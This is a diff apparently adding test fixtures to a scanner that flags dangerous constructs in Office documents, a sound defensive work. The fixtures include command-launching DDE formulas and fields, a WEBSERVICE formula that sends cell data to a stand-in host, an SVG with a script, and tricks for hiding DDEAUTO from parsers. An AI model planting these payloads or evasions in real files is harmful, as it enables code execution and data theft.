@@ -36,6 +36,8 @@ SHEET_RELATIONS, BOOK_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels", "xl/_re
 LINK, ELSEWHERE, DDE = "a link to anything but", "loaded from elsewhere", "(DDE)"
 MACROS, ADDIN, SOURCE, NEEDLESS = "macros", "an add-in", "a data source", "does not need"
 OBJECT, ANOTHER, ENTITIES = "an embedded object (OLE)", "another document", "entities of XML"
+TWO_WAYS = "that readers understand in two ways"
+MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 PANE = "application/vnd.ms-office.webextensiontaskpanes+xml"
 
 
@@ -63,6 +65,14 @@ def using(xml, kind="hyperlink", target="https://x.example/a.png"):
 def drawing(attribute):
     space = "http://schemas.openxmlformats.org/drawingml/2006/main"
     return using(f'<w:drawing><a:blip xmlns:a="{space}" {attribute}="rX1"/></w:drawing>')
+
+
+def svg(xml):
+    """A Word document with an SVG image that holds XML."""
+    return worded(
+        types='<Default Extension="svg" ContentType="image/svg+xml"/>',
+        new={"word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{xml}</svg>'},
+    )
 
 
 def main_type(kind):
@@ -113,6 +123,28 @@ VSTO = (
 VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
 VIDEO = 'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'
 SMART = 'xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"'
+
+STRANGE, BEGIN = '<x:y xmlns:x="x"/>', '<w:fldChar w:fldCharType="begin"/>'
+
+
+def ignored(xml):
+    """XML in an element that a reader may skip with its content."""
+    return f'<x:y xmlns:x="x">{xml}</x:y>'
+
+
+def instruction(text):
+    return f"<w:instrText>{text}</w:instrText>"
+
+
+def choice(one, other):
+    """The rest of a field's instruction, by which readers know the namespace x; then its beginning."""
+    space = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
+    known = f'<mc:Choice xmlns:x="x" Requires="x">{instruction(one)}</mc:Choice>'
+    return (
+        f"</w:instrText><mc:AlternateContent {space}>{known}<mc:Fallback>{instruction(other)}</mc:Fallback>"
+        "</mc:AlternateContent><w:instrText>"
+    )
+
 
 WORD = {
     "a task pane of the web": (
@@ -167,6 +199,10 @@ WORD = {
     "an embedded image by a relation that is a hyperlink": (drawing("r:embed"), ELSEWHERE),
     "an old picture by a relation that is a hyperlink": (using(f'<v:imagedata {VML} o:relid="rX1"/>'), ELSEWHERE),
     "an object by a relation that is a hyperlink": (using(f'<o:a {VML} r:id="rX1"/>'), ELSEWHERE),
+    "an old picture of the web": (using(f'<v:imagedata {VML} o:href="https://x.example/a.png"/>'), ELSEWHERE),
+    "an SVG image that loads another": (svg('<image href="https://x.example/a.png"/>'), ELSEWHERE),
+    "an SVG image that links to a file": (svg('<a href="file:///c:/a.exe"/>'), LINK),
+    "an SVG image with a script": (svg("<script>alert(1)</script>"), "a program"),
     "an image of the web": (related("image", "https://x.example/a.png", external=True), ELSEWHERE),
     "an image of the web that says it is inside": (related("image", "https://x.example/a.png"), ELSEWHERE),
     "an image of a share that says it is inside": (related("image", "\\\\host\\a.png"), ELSEWHERE),
@@ -195,6 +231,16 @@ WORD = {
     "a field of DDE without an end": (
         worded(inside={DOCUMENT: run('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText>')}),
         DDE,
+    ),
+    "a field of DDE behind many blanks": (worded(inside={DOCUMENT: field(" " * 70_000 + "DDEAUTO c")}), "is longer"),
+    "a field of DDE behind an element": (worded(inside={DOCUMENT: field(f"{STRANGE}DDEAUTO c")}), TWO_WAYS),
+    "a field of DDE for readers that skip a choice": (
+        worded(inside={DOCUMENT: field(choice("PAGE ", "DDE c"))}),
+        TWO_WAYS,
+    ),
+    "a field of DDE behind a separator that readers may skip": (
+        worded(inside={DOCUMENT: run(BEGIN + ignored('<w:fldChar w:fldCharType="separate"/>') + instruction("DDE c"))}),
+        TWO_WAYS,
     ),
     "an object without a relation": (worded(inside={DOCUMENT: run(f'<o:OLEObject {VML} Type="Link"/>')}), OBJECT),
     "an object of a strange spelling": (related("OLEOBJECT", "a.bin"), NEEDLESS),
@@ -276,6 +322,10 @@ def by_xlsxwriter(change):
 EXCEL = {
     "a formula of DDE": (calculating("=cmd|'/c calc'!A0"), DDE),
     "a formula of DDE behind another": (calculating("=1+MSEXCEL|'\\..\\cmd.exe'!''"), DDE),
+    "a formula of DDE behind an element": (
+        booked(inside={SHEET: f"<f xmlns='{MAIN}'>{STRANGE}cmd|'/c calc'!A0</f>"}),
+        TWO_WAYS,
+    ),
     "a formula that asks the web": (calculating('=WEBSERVICE("https://x.example/"&A1)'), "WEBSERVICE"),
     "a formula that shows an image of the web": (calculating('=_xlfn.IMAGE("https://x.example/a")'), "IMAGE"),
     "a formula of real-time data": (calculating('=RTD("a.b",,"c")'), "RTD"),
